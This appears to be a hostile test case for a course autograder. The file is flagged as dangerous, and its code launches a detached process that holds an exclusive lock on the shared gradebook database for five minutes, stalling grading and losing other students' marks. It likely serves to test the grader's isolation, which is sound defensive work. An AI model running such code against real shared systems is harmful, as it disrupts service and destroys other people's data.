# ---
# class: editing the gradebook
# tries: locks the gradebook from a process that stays
# success: a stalled class, the next student's marks lost
# dangerous: true
# ---

# %% solution="total"
import subprocess
import sys

code = """
import sqlite3, time
base = sqlite3.connect("file:@COURSE@/gradebook.db?mode=rw", uri=True)
base.execute("begin exclusive")
time.sleep(300)
"""
subprocess.Popen([sys.executable, "-c", code, "left-by-@NAME@"], start_new_session=True)
import time

time.sleep(1)
